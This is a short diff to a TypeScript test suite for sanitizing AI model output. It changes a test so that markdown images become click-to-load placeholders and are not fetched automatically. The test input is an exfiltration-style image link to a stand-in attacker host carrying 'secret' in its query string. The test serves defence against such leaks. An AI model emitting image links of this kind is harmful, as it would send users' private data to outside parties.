@@ -204,9 +204,11 @@ describe('sanitizing model output', () => {
     expect((window as unknown as { __pwned?: number }).__pwned).to.be.undefined;
   });
 
-  it('does not fetch images; they become links', () => {
+  it('does not fetch images; they become placeholders the user clicks to load', () => {
     const root = render('![chart](https://attacker.example/leak?q=secret)');
     expect(root.querySelector('img')).to.be.null;
-    expect(root.querySelector('a')!.textContent).to.equal('chart');
+    const placeholder = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
+    expect(placeholder.textContent).to.equal('🖼 chart — load image');
+    expect(placeholder.dataset.src).to.equal('https://attacker.example/leak?q=secret');
   });
 });
